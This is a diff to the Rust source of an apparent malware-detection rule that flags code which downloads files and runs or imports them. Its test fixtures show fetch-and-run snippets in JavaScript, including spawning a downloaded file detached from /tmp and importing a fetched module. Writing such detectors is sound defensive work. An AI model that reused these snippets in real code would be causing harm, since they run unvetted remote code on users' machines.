@@ -4,8 +4,8 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
-use crate::evidence::source::{Argument, Call, Origins};
 use crate::evidence::document::Document;
+use crate::evidence::source::{Argument, Call, Origins};
 use crate::fact::{Confidence, Place, Severity};
 use crate::rules::{FactSink, Rule, RuleMeta, Subject};
 
@@ -110,6 +110,14 @@ const answer = await fetch("https://files.test/part");
 writeFileSync("/tmp/part", Buffer.from(await answer.arrayBuffer())); chmodSync("/tmp/part", 0o755);
 spawn("/tmp/part", [], { detached: true }).unref();'''
 [[examples.fires]]
+note = "A module is fetched and loaded."
+[examples.fires.files]
+"x.mjs" = '''
+import fs from "node:fs";
+const answer = await fetch("https://files.test/rules.mjs");
+fs.writeFileSync("./rules.mjs", await answer.text());
+const rules = await import("./rules.mjs");'''
+[[examples.fires]]
 note = "A package from an address of its own."
 [examples.fires.files]
 "x.py" = '''
@@ -138,9 +146,10 @@ impl Rule for SourceDownloadAndExecute {
     }
 
     fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
-        report_calls(subject, facts, |_, call| judgement(call));
+        report_calls(subject, facts, judgement);
         for file in source_files(subject) {
-            let opened = subject.evidence.documents.get(file.path).and_then(|document| opened_with_password(&file, document));
+            let opened =
+                subject.evidence.documents.get(file.path).and_then(|document| opened_with_password(&file, document));
             if let Some((place, text)) = opened {
                 let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
                 facts.found_as(severity, confidence, place, &text);
@@ -167,7 +176,7 @@ const INSTALLERS: [&str; 9] = [
     "https://install.python-poetry.org",
 ];
 
-fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
+fn judgement(file: &SourceFile<'_>, call: &Call) -> Option<(Severity, Confidence)> {
     let starts =
         runs_shell(call) || call.callee.starts_with("child_process.") || call.callee.starts_with("subprocess.");
     let mut texts = call.arguments.iter().filter_map(text_of).filter(|_| starts);
@@ -175,10 +184,10 @@ fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
         let known = INSTALLERS.iter().any(|address| piped.contains(address));
         return Some(if known { (Severity::Low, Confidence::Medium) } else { (Severity::High, Confidence::High) });
     }
-    if let Some(judged) = starts_fetched_file(call) {
+    if let Some(judged) = starts_fetched_file(file, call) {
         return Some(judged);
     }
-    if runs_answer(call) || installs_archive(call) {
+    if runs_answer(call) || installs_archive(call) || loads_fetched(call) {
         return Some((Severity::High, Confidence::Medium));
     }
     if evaluates(call) && call.flows.arguments().any(Origins::ANSWER) {
@@ -215,6 +224,15 @@ fn runs_answer(call: &Call) -> bool {
 
 const INTERPRETERS: [&str; 7] = ["bash", "sh", "zsh", "python", "python3", "node", "perl"];
 
+/// A module is loaded from a file to which something from the network was just written.
+fn loads_fetched(call: &Call) -> bool {
+    let loads = matches!(
+        call.callee.as_str(),
+        "import" | "runpy.run_path" | "importlib.util.spec_from_file_location" | "require"
+    );
+    loads && call.flows.arguments().any(Origins::FETCHED_FILE)
+}
+
 /// Whether an answer is the input of a program.
 fn fed(call: &Call) -> bool {
     call.flows.rest.any(Origins::ANSWER) && call.text.contains("input=")
@@ -226,7 +244,8 @@ fn installs_archive(call: &Call) -> bool {
         Regex::new(r"(?i-u)\b(?:pip3?|npm|pnpm|yarn|uv)\s+(?:pip\s+)?(?:install|add|i)\b(?u:[^\n]){0,80}\shttps?://(?:[\w-]+\.)*?(?P<host>[\w-]+\.[a-z]{2,})/(?u:[^\s]){0,200}\.(?:tar\.gz|tgz|zip|whl)\b")
             .expect("the pattern is fixed and valid")
     });
-    let starts = runs_shell(call) || call.callee.starts_with("subprocess.") || call.callee.starts_with("child_process.");
+    let starts =
+        runs_shell(call) || call.callee.starts_with("subprocess.") || call.callee.starts_with("child_process.");
     starts
         && call.arguments.iter().filter_map(text_of).filter_map(|text| ARCHIVE.captures(text)).any(|found| {
             let host = found.name("host").map_or("", |host| host.as_str());
@@ -236,8 +255,18 @@ fn installs_archive(call: &Call) -> bool {
 
 /// Whose archives are packages of their own name.
 const KNOWN_ARCHIVES: [&str; 12] = [
-    "github.com", "githubusercontent.com", "gitlab.com", "pypi.org", "pythonhosted.org", "npmjs.org", "pytorch.org",
-    "huggingface.co", "nvidia.com", "googleapis.com", "pyg.org", "codeberg.org",
+    "github.com",
+    "githubusercontent.com",
+    "gitlab.com",
+    "pypi.org",
+    "pythonhosted.org",
+    "npmjs.org",
+    "pytorch.org",
+    "huggingface.co",
+    "nvidia.com",
+    "googleapis.com",
+    "pyg.org",
+    "codeberg.org",
 ];
 
 /// An archive is opened with a password that stands in the program, in a file that fetches and starts something.
@@ -247,16 +276,20 @@ fn opened_with_password(file: &SourceFile<'_>, document: &Document) -> Option<(P
             .expect("the pattern is fixed and valid")
     });
     let starts = file.view.calls.iter().any(|call| {
-        runs_shell(call) || call.callee.starts_with("subprocess.") || call.callee == "os.startfile" || call.callee.starts_with("child_process.")
+        runs_shell(call)
+            || call.callee.starts_with("subprocess.")
+            || call.callee == "os.startfile"
+            || call.callee.starts_with("child_process.")
     });
     let fetches = file.view.calls.iter().any(|call| is_fetch(&call.callee) || call.callee.ends_with("urlretrieve"));
-    let found = OPENED.find(&document.text).filter(|found| starts && fetches && !found.as_str().contains("infected"))?;
+    let found =
+        OPENED.find(&document.text).filter(|found| starts && fetches && !found.as_str().contains("infected"))?;
     Some((document.place(found.start()), found.as_str().to_owned()))
 }
 
 /// A file that was just fetched is started. Installers of prebuilt parts do so too: it is worth less unless the file is
 /// named as a program for Windows, which no package manager's prebuilt part is fetched as.
-fn starts_fetched_file(call: &Call) -> Option<(Severity, Confidence)> {
+fn starts_fetched_file(file: &SourceFile<'_>, call: &Call) -> Option<(Severity, Confidence)> {
     let starts = call.callee.starts_with("child_process.")
         || call.callee.starts_with("subprocess.")
         || matches!(call.callee.as_str(), "os.startfile" | "os.system" | "os.popen")
@@ -270,8 +303,24 @@ fn starts_fetched_file(call: &Call) -> Option<(Severity, Confidence)> {
             let lower = text.to_ascii_lowercase();
             [".exe", ".scr", ".bat", ".vbs", ".ps1"].iter().any(|end| lower.trim_end_matches(['"', ' ']).ends_with(end))
         });
-    let severity = if program || is_furtive(call) { Severity::High } else { Severity::Medium };
+    let severity =
+        if program || is_furtive(call) || comes_from_a_stranger(file) { Severity::High } else { Severity::Medium };
     Some((severity, Confidence::Medium))
+}
+
+/// Whether a file names addresses of archives or programs alone that nobody publishes at.
+fn comes_from_a_stranger(file: &SourceFile<'_>) -> bool {
+    static HOST: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i-u)https?://(?:[\w-]+\.)*?(?P<host>[\w-]+\.[a-z]{2,})(?:[:/]|$)")
+            .expect("the pattern is fixed and valid")
+    });
+    let texts = file.view.calls.iter().flat_map(|call| &call.arguments).filter_map(text_of);
+    let hosts: Vec<&str> = texts
+        .flat_map(|text| HOST.captures_iter(text).take(20))
+        .filter_map(|found| found.name("host").map(|host| host.as_str()))
+        .take(200)
+        .collect();
+    !hosts.is_empty() && !hosts.iter().any(|host| KNOWN_ARCHIVES.contains(host))
 }
 
 /// Whether what is started is cut loose from its parent, shows no window, lies hidden or among the temporary files, or is
@@ -285,8 +334,10 @@ fn is_furtive(call: &Call) -> bool {
             INTERPRETERS.contains(&program.rsplit('/').next().unwrap_or_default())
         })
     };
-    loose.iter().any(|name| named(call, name).is_some_and(|value| !matches!(value, "false" | "False")) || call.text.contains(&format!("{name}=")))
-        || texts().any(|text| text.starts_with("/tmp/") || text.contains("/.") || text.contains("AppData"))
+    loose.iter().any(|name| {
+        named(call, name).is_some_and(|value| !matches!(value, "false" | "False"))
+            || call.text.contains(&format!("{name}="))
+    }) || texts().any(|text| text.starts_with("/tmp/") || text.contains("/.") || text.contains("AppData"))
         || script()
 }
 
